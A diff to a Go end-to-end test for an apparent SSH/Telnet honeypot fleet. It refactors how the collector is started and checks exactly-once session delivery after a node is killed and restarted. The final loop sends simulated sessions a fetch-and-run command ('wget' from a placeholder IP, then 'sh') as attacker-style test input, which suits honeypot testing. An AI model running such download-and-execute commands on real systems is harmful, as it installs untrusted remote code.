@@ -15,7 +15,6 @@ import (
 	"testing"
 	"time"
 
-	"honeynet/internal/fleet"
 	"honeynet/internal/sshclient"
 	"honeynet/internal/store"
 )
@@ -257,15 +256,12 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 	}
 	base := t.TempDir()
 	fleetDir := filepath.Join(base, "fleet")
-	collector, err := fleet.NewServer(fleetDir, fleet.ServerOptions{SyncAck: true})
+	collector, err := Collect(CollectConfig{Dir: fleetDir, ListenAddr: "127.0.0.1:0"})
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer collector.Close()
-	caddr, err := collector.Listen("127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
+	caddr := collector.Addr()
 
 	// Two in-process edges, SSH + Telnet.
 	dirs := map[string]string{
@@ -279,7 +275,7 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 			SSHAddr:         "127.0.0.1:0",
 			TelnetAddr:      "127.0.0.1:0",
 			StorePath:       dirs[node],
-			ForwardAddr:     caddr.String(),
+			ForwardAddr:     caddr,
 			ForwardNodeID:   node,
 			ForwardMaxDelay: 2 * time.Millisecond,
 			Timeout:         10 * time.Second,
@@ -311,7 +307,7 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 	// SIGKILL lands.
 	addrFile := filepath.Join(base, "edge-c.addr")
 	countFile := filepath.Join(base, "edge-c.count")
-	cmd, addrC := startHelperEdge(t, dirs["edge-c"], caddr.String(), addrFile, countFile, time.Hour)
+	cmd, addrC := startHelperEdge(t, dirs["edge-c"], caddr, addrFile, countFile, time.Hour)
 	t.Cleanup(func() {
 		if cmd.Process != nil {
 			cmd.Process.Kill()
@@ -334,7 +330,7 @@ func TestFleetE2EByteIdentity(t *testing.T) {
 
 	// Restart over the same store: WAL recovery plus resume from the
 	// collector's cursor must deliver the pre-kill sessions exactly once.
-	cmd2, addrC2 := startHelperEdge(t, dirs["edge-c"], caddr.String(), addrFile, countFile, 2*time.Millisecond)
+	cmd2, addrC2 := startHelperEdge(t, dirs["edge-c"], caddr, addrFile, countFile, 2*time.Millisecond)
 	for i := 3; i < 6; i++ {
 		sshSession(t, addrC2, fmt.Sprintf("wget http://198.51.100.7/c%d.sh; sh c%d.sh", i, i))
 	}
